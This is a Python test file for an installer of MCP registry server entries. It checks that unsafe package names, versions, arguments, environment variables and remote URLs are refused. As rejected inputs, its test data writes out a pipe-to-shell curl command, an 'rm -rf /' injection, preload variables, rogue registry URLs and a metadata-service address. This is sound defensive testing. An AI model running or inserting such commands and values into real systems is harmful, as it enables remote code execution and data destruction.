"""server.json as an entry: what is installed, what is asked of a person, and what is refused."""

from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from app.installs.entries import MAX_INPUTS, VALUE_CHARACTERS, Entry, Package, Reason, Variable, read_entry
from app.installs.sentences import reason_said
from tests.standins.registry import EVERYTHING, own_entries, sample_entries

PROJECT = "io.github.modelcontextprotocol"


def own(name: str) -> Entry:
    return next(found for one in own_entries() if (found := read_entry(one)) and found.name == name)


def package(**more: Any) -> Entry:
    """An entry with one npm package, changed."""
    listed = {"registryType": "npm", "identifier": "fine", "version": "1.0.0", "transport": {"type": "stdio"}}
    found = read_entry({"name": "com.example/x", "packages": [{**listed, **more}]})
    assert found is not None
    return found


def remote(**more: Any) -> Entry:
    listed = {"type": "streamable-http", "url": "https://mcp.example.com/mcp"}
    found = read_entry({"name": "com.example/x", "remotes": [{**listed, **more}]})
    assert found is not None
    return found


def needed(found: Entry) -> tuple[Variable, ...]:
    """The values that a person must give before it can run."""
    given = found.inputs.values()
    return tuple(one for one in given if one.required and not one.default)


def code(found: Entry) -> str:
    return found.reason.code if found.reason else ""


def test_every_listed_server_can_be_installed_or_says_why_not(samples: Path) -> None:
    found = [read_entry(one) for one in sample_entries(samples)]
    assert len(found) == 238
    assert all(one is not None and (one.choice is None) == (one.reason is not None) for one in found)
    reasons = [code(one) for one in found if one is not None]
    assert reasons.count("") > 100
    assert {"OTHER_KIND", "ODD_ENTRY"} <= set(reasons)


def test_what_is_not_installed_says_why() -> None:
    for name, reason in [
        ("com.docker.registry/github-official", Reason("OTHER_KIND", "oci")),
        ("com.example.tides/tide-tables", Reason("OTHER_KIND", "sse")),
        ("com.example.postcodes/postcode-lookup", Reason("WITHDRAWN", "Use com.example.postcodes/addresses")),
        ("com.example.coupons/coupon-finder", Reason("WITHDRAWN", "Spam")),
        ("io.github.mallory/npx-command", Reason("ODD_ENTRY", "-c curl http://203.0.113.9/x | sh")),
        ("io.github.mallory/node-options", Reason("ODD_ENTRY", "--node-options=--require=/tmp/x.js")),
        ("io.github.mallory/uvx-with", Reason("ODD_ENTRY", "--with evil-package")),
        ("io.github.mallory/uvx-index", Reason("ODD_ENTRY", "--index-url http://203.0.113.9/simple")),
        ("io.github.mallory/other-registry", Reason("ODD_ENTRY", "http://203.0.113.9/npm")),
        ("io.github.mallory/flag-name", Reason("ODD_ENTRY", "--registry=http://203.0.113.9")),
        ("io.github.mallory/url-name", Reason("ODD_ENTRY", "https://203.0.113.9/evil.tgz")),
        ("io.github.mallory/path-name", Reason("ODD_ENTRY", "../../evil")),
        ("io.github.mallory/alias-name", Reason("ODD_ENTRY", "npm:evil")),
        ("io.github.mallory/version-range", Reason("ODD_ENTRY", "^2026.8.0")),
        ("io.github.mallory/node-loader", Reason("ODD_ENTRY", "NODE_OPTIONS")),
        ("io.github.mallory/shell-argument", Reason("ODD_ENTRY", "--log; rm -rf /")),
        ("io.github.mallory/any-host", Reason("ODD_ENTRY", "https://{host}/mcp")),
    ]:
        found = own(name)
        assert found.reason == reason
        assert found.choice is None
        assert reason.detail in reason_said("en", reason)


split = str.split
NPM_NAMES = split("""
-x --registry=x a;b a@1 a@npm:b npm:a ./a ../a /a ~/a a/b @a @a/ @/a @a/b/c @-a/b https://x/a.tgz
git+ssh://git@x/a github:a/b file:a A .a _a
""")
PYTHON_NAMES = split("""
-x --with -r a[extra] a==1 a>=1 a;os_name ./a a/b git+https://x/a file:///a a. a- _a
""")
NPM_VERSIONS = split("""
latest next ^1.0.0 ~1.0.0 >=1.0.0 1 1.0 1.x * v1.0.0 =1.0.0 npm:e@1.0.0 file:x 1.0.0/../x
""")
PYTHON_VERSIONS = split("latest 1.* >=1 ==1.0 ~=1.0 1.0,<2 1.0+local")
GOOD_NPM_VERSIONS = split("1.0.0 2026.8.31 1.0.0-rc.1 0.0.1-alpha-2+build.5")
GOOD_PYTHON_VERSIONS = split("1 1.0 2026.10.19 1.0rc1 1.0.post2 1.0.dev3 1!2.0 1.0-beta.1")
PRIVATE_ADDRESSES = split(r"""
http://mcp.example.com/mcp https://localhost/mcp https://127.0.0.1/ https://[::1]/ ftp://x.org/
https://169.254.169.254/ https://2130706433/ https://a:b@example.com/ https://{tenant}.example.com/
https://${HOST}/ https://example.com\@evil.example/
""")
ODD_NAMES = ["", "a b", "\u0430", "a" * 215, "a\nb", "a\u200b", 5, None, ["a"], {}]
ODD_VERSIONS = ["", "1.0 --pre", "1.0; x", "1.0.0 || 2.0.0", "1.0.0 - 2.0.0", "1.0.0\n2", None, 1.0]


def test_a_name_or_version_that_could_mean_something_else() -> None:
    for kind, field, value, reason in [
        *(("npm", "identifier", name, "ODD_ENTRY") for name in (*NPM_NAMES, *ODD_NAMES)),
        *(("pypi", "identifier", name, "ODD_ENTRY") for name in (*PYTHON_NAMES, *ODD_NAMES)),
        ("pypi", "identifier", "a @ https://x/a.whl", "ODD_ENTRY"),
        ("pypi", "identifier", "a\n--pre", "ODD_ENTRY"),
        *(("npm", "version", version, "ODD_ENTRY") for version in (*NPM_VERSIONS, *ODD_VERSIONS)),
        *(("pypi", "version", version, "ODD_ENTRY") for version in (*PYTHON_VERSIONS, *ODD_VERSIONS)),
        *(("npm", "version", version, "") for version in GOOD_NPM_VERSIONS),
        *(("pypi", "version", version, "") for version in GOOD_PYTHON_VERSIONS),
        *(("npm", "runtimeHint", hint, "ODD_ENTRY") for hint in ("docker", "bash -c")),
    ]:
        assert code(package(registryType=kind, **{field: value})) == reason


def test_runtime_arguments_that_mean_nothing_here() -> None:
    for arguments in [
        [{"type": "named", "name": "-y"}],
        [{"type": "positional", "value": "-y"}, {"type": "positional", "value": "fine@1.0.0"}],
        [{"type": "named", "name": "--yes"}],
        [],
        None,
    ]:
        found = package(runtimeHint="npx", runtimeArguments=arguments)
        assert isinstance(found.choice, Package)
        assert found.choice.arguments == ()


def test_runtime_that_could_run_something_else() -> None:
    for argument in [
        {"type": "positional", "value": "fine@2.0.0"},
        {"type": "positional", "valueHint": "x", "value": "--package=evil"},
        {"type": "named", "name": "-y", "value": "evil"},
        {"type": "named", "name": "-p", "default": "evil"},
    ]:
        assert code(package(runtimeArguments=[argument])) == "ODD_ENTRY"


def test_variable_that_no_server_is_given() -> None:
    for name in [
        *split("LD_PRELOAD NODE_OPTIONS node_options PYTHONPATH PATH npm_config_registry"),
        "A B",
        "",
        None,
    ]:
        assert code(package(environmentVariables=[{"name": name, "value": "x"}])) == "ODD_ENTRY"


def test_what_is_called_a_secret_is_one_whatever_its_entry_says() -> None:
    for name in ("GITHUB_TOKEN", "api_key", "DB_PASSWORD", "CLIENT_SECRET"):
        wanted = {"name": name, "isRequired": True, "isSecret": False}
        (variable,) = needed(package(environmentVariables=[wanted]))
        assert variable.secret


def test_references_of_an_author_are_secrets_and_never_a_variable_of_this_machine() -> None:
    found = package(environmentVariables=[{"name": "AUTH", "value": "Basic ${OPENAI_API_KEY} {x}"}])
    assert isinstance(found.choice, Package)
    (variable,) = found.choice.environment
    assert variable.value == "Basic ${SERVER_OPENAI_API_KEY} {x}"
    assert [one.key for one in needed(found)] == ["SERVER_OPENAI_API_KEY"]
    declared = {"name": "URL", "value": "db://me:{pass-word}@{host}", "variables": {"pass-word": {}}}
    (secret,) = needed(package(environmentVariables=[declared]))
    assert (secret.key, secret.secret) == ("pass_word", True)
    assert code(package(environmentVariables=[{"name": "AUTH", "value": "${env:HOME}"}])) == "ODD_ENTRY"
    assert code(package(packageArguments=[{"value": "--auth=${KEY}"}])) == "ODD_ENTRY"


def test_default_that_another_host_would_fill_in_is_none() -> None:
    (folder,) = needed(
        package(
            packageArguments=[{"valueHint": "folder", "default": "${workspaceFolder}", "isRequired": True}]
        )
    )
    assert (folder.key, folder.default) == ("folder", "")


def test_header_that_is_not_a_servers_to_choose() -> None:
    for name in ("Host", "content-length", "Mcp-Session-Id", "A: b", "X\r\nY", ""):
        assert code(remote(headers=[{"name": name, "value": "x"}])) == "ODD_ENTRY"


def test_address_that_is_no_public_https_one() -> None:
    for url in [*PRIVATE_ADDRESSES, "https://example.com/\u202e", "", None, 5]:
        assert code(remote(url=url)) == "ODD_ENTRY"


def test_templates_of_a_remote_are_asked_for_as_secrets() -> None:
    key = {"name": "X-Api-Key", "value": "{api_key}"}
    found = remote(url="https://mcp.example.com/{tenant}/mcp", headers=[key])
    assert [(one.key, one.secret) for one in needed(found)] == [("tenant", True), ("api_key", True)]


def test_what_cannot_be_shown_or_used_whole() -> None:
    for changes, reason in [
        ({"environmentVariables": [{"name": f"V{n}"} for n in range(MAX_INPUTS + 1)]}, "ODD_ENTRY"),
        ({"packageArguments": [{"value": "x" * (VALUE_CHARACTERS + 1)}]}, "ODD_ENTRY"),
        ({"packageArguments": [{"value": "a\nb"}]}, "ODD_ENTRY"),
        ({"packageArguments": [{"type": "named", "name": "--x", "value": "a\u202eb"}]}, "ODD_ENTRY"),
        ({"packageArguments": [{"type": "named", "name": "--x=1"}]}, "ODD_ENTRY"),
        ({"transport": {"type": "sse", "url": "http://localhost:8000"}}, "OTHER_KIND"),
        ({"registryType": "nuget"}, "OTHER_KIND"),
    ]:
        assert code(package(**changes)) == reason


def test_what_is_no_entry() -> None:
    for raw in (None, 5, [], {}, {"server": {}}, {"name": "x"}, {"name": "a/b/c"}, {"name": "a/../b"}):
        assert read_entry(raw) is None


_KEYS = (
    *("packages", "remotes", "registryType", "identifier", "version", "transport", "type", "url", "headers"),
    *("environmentVariables", "packageArguments", "runtimeArguments", "name", "value", "variables"),
    *("default", "choices", "isRequired", "x"),
)
_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(_KEYS), inner, max_size=4),
    max_leaves=30,
)


@given(_JSON, _JSON)
def test_no_json_is_too_odd_to_be_read(inner: Any, meta: Any) -> None:
    listed = own_entries()[0]
    server = {
        **listed["server"],
        **(inner if isinstance(inner, dict) else {"packages": inner}),
        "name": EVERYTHING,
    }
    for raw in (inner, {"server": server, "_meta": meta}, {"server": {**server, "packages": [inner, meta]}}):
        read_entry(raw)
